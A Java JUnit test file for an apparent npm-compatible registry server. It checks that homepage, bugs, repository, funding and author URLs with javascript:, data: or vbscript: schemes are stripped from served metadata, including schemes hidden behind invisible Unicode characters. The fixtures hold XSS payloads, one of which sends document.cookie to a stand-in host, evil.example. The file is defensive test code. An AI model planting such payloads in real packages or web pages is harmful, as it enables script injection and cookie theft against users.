package dev.warden.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.warden.server.testing.Http;
import dev.warden.server.testing.Tarballs;
import dev.warden.server.testing.TestServer;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.util.List;

/**
 * URLs from package.json that are not http(s) are not served as links: not in search results, not
 * as the packument's homepage, bugs or funding URL (which {@code npm fund} opens, and which the
 * abbreviated packument carries too), not as a person's url. Repository URLs keep git's and npm's
 * forms in the packument (npm needs them) and appear in search results only as their web page.
 * Invisible characters that hide a scheme from a check but not from a browser are refused too.
 */
class UnsafeUrlsTest {

    static TestServer server;
    static Http http;
    static String token;

    @BeforeAll
    static void start() throws Exception {
        server = TestServer.start();
        http = server.http();
        token = server.token("ursula");
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
    }

    private static void publish(ObjectNode manifest) throws Exception {
        Http.Result r =
                http.put(
                        "/" + manifest.path("name").asText(),
                        token,
                        Tarballs.publishBody(manifest, Tarballs.packageTgz(manifest)));
        assertThat(r.status()).as(r.body()).isEqualTo(200);
    }

    private static JsonNode searchHit(String name) throws Exception {
        JsonNode objects = http.get("/-/v1/search?text=" + name).json().path("objects");
        for (JsonNode o : objects) {
            if (o.path("package").path("name").asText().equals(name)) {
                return o.path("package");
            }
        }
        throw new AssertionError(name + " not found by search: " + objects);
    }

    @Test
    void scriptUrlsAreNotServed() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-evil", "1.0.0");
        m.put("homepage", "javascript:alert(document.cookie)");
        m.putObject("bugs").put("url", "JavaScript:alert(1)").put("email", "bugs@example.com");
        m.putObject("repository")
                .put("type", "git")
                .put("url", "javascript:fetch('//evil.example/'+document.cookie)");
        publish(m);

        JsonNode links = searchHit("linky-evil").path("links");
        assertThat(links.path("npm").asText()).startsWith(server.url() + "/-/web/package/");
        assertThat(links.has("homepage")).isFalse();
        assertThat(links.has("repository")).isFalse();
        assertThat(links.has("bugs")).isFalse();

        JsonNode doc = http.get("/linky-evil").json();
        for (JsonNode d :
                new JsonNode[] {
                    doc, doc.path("versions").path("1.0.0"), http.get("/linky-evil/1.0.0").json()
                }) {
            assertThat(d.has("homepage")).isFalse();
            assertThat(d.path("bugs").has("url")).isFalse();
            assertThat(d.path("bugs").path("email").asText()).isEqualTo("bugs@example.com");
            assertThat(d.has("repository")).isFalse();
        }
        assertThat(http.get("/linky-evil").body()).doesNotContainIgnoringCase("javascript:");
        assertThat(http.get("/-/v1/search?text=linky-evil").body())
                .doesNotContainIgnoringCase("javascript:");
    }

    @Test
    void hiddenSchemesAndOtherSchemesAreNotServedEither() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-hidden", "1.0.0");
        m.put("homepage", " \tjavascript:alert(1)");
        m.put("bugs", "data:text/html,<script>alert(1)</script>");
        m.put("repository", "vbscript:msgbox(1)");
        publish(m);
        JsonNode doc = http.get("/linky-hidden").json();
        assertThat(doc.has("homepage")).isFalse();
        assertThat(doc.has("bugs")).isFalse();
        assertThat(doc.has("repository")).isFalse();
        assertThat(searchHit("linky-hidden").path("links").size()).isEqualTo(1);
    }

    @Test
    void gitRepositoryUrlsStayInThePackumentAndLinkToTheirWebPage() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-good", "1.0.0");
        m.put("homepage", "https://example.com/linky#readme");
        m.putObject("bugs").put("url", "https://github.com/ursula/linky/issues");
        m.putObject("repository")
                .put("type", "git")
                .put("url", "git+https://github.com/ursula/linky.git");
        publish(m);
        JsonNode doc = http.get("/linky-good").json();
        assertThat(doc.path("homepage").asText()).isEqualTo("https://example.com/linky#readme");
        assertThat(doc.path("bugs").path("url").asText())
                .isEqualTo("https://github.com/ursula/linky/issues");
        assertThat(doc.path("repository").path("url").asText())
                .isEqualTo("git+https://github.com/ursula/linky.git");
        JsonNode links = searchHit("linky-good").path("links");
        assertThat(links.path("homepage").asText()).isEqualTo("https://example.com/linky#readme");
        assertThat(links.path("repository").asText()).isEqualTo("https://github.com/ursula/linky");

        String[] gitForms = {
            "git://github.com/ursula/linky.git",
            "git+ssh://git@github.com/ursula/linky.git",
            "ssh://git@github.com/ursula/linky.git",
            "git@github.com:ursula/linky.git"
        };
        for (int i = 0; i < gitForms.length; i++) {
            String url = gitForms[i];
            ObjectNode v = Tarballs.manifest("linky-git", "1.0." + i);
            v.putObject("repository").put("type", "git").put("url", url);
            publish(v);
            assertThat(http.get("/linky-git").json().path("repository").path("url").asText())
                    .as(url)
                    .isEqualTo(url);
            assertThat(searchHit("linky-git").path("links").has("repository")).as(url).isFalse();
        }
    }

    /**
     * Every form a served document of {@code name} takes: full and abbreviated packuments, the
     * version document, search.
     */
    private static List<String> served(String name) throws Exception {
        return List.of(
                http.get("/" + name).body(),
                http.get("/" + name, null, Tarballs.abbreviatedAccept()).body(),
                http.get("/" + name + "/1.0.0").body(),
                http.get("/-/v1/search?text=" + name).body());
    }

    @Test
    void fundingAndPeoplesUrlsAreServedOnlyAsLinks() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-fund", "1.0.0");
        ArrayNode funding = m.putArray("funding");
        funding.add("https://github.com/sponsors/ursula");
        funding.addObject().put("type", "patreon").put("url", "javascript:alert(document.cookie)");
        funding.add("\u200Bjavascript:alert(2)");
        funding.addObject()
                .put("type", "opencollective")
                .put("url", "https://opencollective.com/linky");
        m.putObject("author")
                .put("name", "Mal")
                .put("email", "mal@example.com")
                .put("url", "javascript:alert(3)");
        ArrayNode contributors = m.putArray("contributors");
        contributors.addObject().put("name", "Cy").put("url", "\u2028javascript:alert(4)");
        contributors.add("Eve <eve@example.com> (javascript:alert(5))");
        contributors.addObject().put("name", "Di").put("url", "https://di.example");
        publish(m);

        JsonNode doc = http.get("/linky-fund").json();
        JsonNode abbreviated = http.get("/linky-fund", null, Tarballs.abbreviatedAccept()).json();
        JsonNode expectedFunding =
                TestServer.parse(
                        "[\"https://github.com/sponsors/ursula\", {\"type\": \"opencollective\","
                                + " \"url\": \"https://opencollective.com/linky\"}]");
        for (JsonNode v :
                new JsonNode[] {
                    doc.path("versions").path("1.0.0"),
                    abbreviated.path("versions").path("1.0.0"),
                    http.get("/linky-fund/1.0.0").json()
                }) {
            assertThat(v.path("funding")).isEqualTo(expectedFunding);
        }
        for (JsonNode d :
                new JsonNode[] {
                    doc, doc.path("versions").path("1.0.0"), http.get("/linky-fund/1.0.0").json()
                }) {
            assertThat(d.path("author"))
                    .isEqualTo(
                            TestServer.parse(
                                    "{\"name\": \"Mal\", \"email\": \"mal@example.com\"}"));
        }
        assertThat(doc.path("versions").path("1.0.0").path("contributors"))
                .isEqualTo(
                        TestServer.parse(
                                "[{\"name\": \"Cy\"}, \"Eve <eve@example.com>\", {\"name\": \"Di\","
                                        + " \"url\": \"https://di.example\"}]"));
        for (String body : served("linky-fund")) {
            assertThat(body)
                    .doesNotContainIgnoringCase("javascript:")
                    .doesNotContain("\u200B", "\u2028");
        }

        // a funding field with no link left is not served at all
        ObjectNode bare = Tarballs.manifest("linky-nofund", "1.0.0");
        bare.putObject("funding").put("type", "individual").put("url", "\uFEFFjavascript:alert(6)");
        publish(bare);
        assertThat(http.get("/linky-nofund").json().path("versions").path("1.0.0").has("funding"))
                .isFalse();
        assertThat(
                        http.get("/linky-nofund", null, Tarballs.abbreviatedAccept())
                                .json()
                                .path("versions")
                                .path("1.0.0")
                                .has("funding"))
                .isFalse();
        ObjectNode single = Tarballs.manifest("linky-strfund", "1.0.0");
        single.put("funding", "vbscript:msgbox(1)");
        publish(single);
        assertThat(http.get("/linky-strfund/1.0.0").json().has("funding")).isFalse();
    }

    @Test
    void invisibleCharactersAndUnknownRepositoryFormsAreNotServed() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-invisible", "1.0.0");
        m.put("homepage", "\u200Bjavascript:alert(1)");
        m.putObject("bugs")
                .put("url", "\u202Ejavascript:alert(2)")
                .put("email", "bugs@example.com");
        m.putObject("repository").put("type", "git").put("url", "\u2060javascript:alert(3)");
        publish(m);
        JsonNode doc = http.get("/linky-invisible").json();
        assertThat(doc.has("homepage")).isFalse();
        assertThat(doc.path("bugs").has("url")).isFalse();
        assertThat(doc.has("repository")).isFalse();
        assertThat(searchHit("linky-invisible").path("links").size()).isEqualTo(1);
        for (String body : served("linky-invisible")) {
            assertThat(body).doesNotContainIgnoringCase("javascript:");
        }

        // without a scheme, only npm's shorthands are repositories
        String[][] forms = {
            {"evil.example.com/x/y", null},
            {"alert(1)", null},
            {"<img src=x onerror=alert(1)>", null},
            {"ursula/linky", "ursula/linky"},
            {"github:ursula/linky", "github:ursula/linky"},
            {"git@github.com:ursula/linky.git", "git@github.com:ursula/linky.git"}
        };
        for (int i = 0; i < forms.length; i++) {
            ObjectNode v = Tarballs.manifest("linky-forms", "1.0." + i);
            v.put("repository", forms[i][0]);
            publish(v);
            JsonNode repository = http.get("/linky-forms/1.0." + i).json().path("repository");
            if (forms[i][1] == null) {
                assertThat(repository.isMissingNode()).as(forms[i][0]).isTrue();
            } else {
                assertThat(repository.asText()).as(forms[i][0]).isEqualTo(forms[i][1]);
            }
            assertThat(searchHit("linky-forms").path("links").has("repository"))
                    .as(forms[i][0])
                    .isFalse();
        }
    }
}
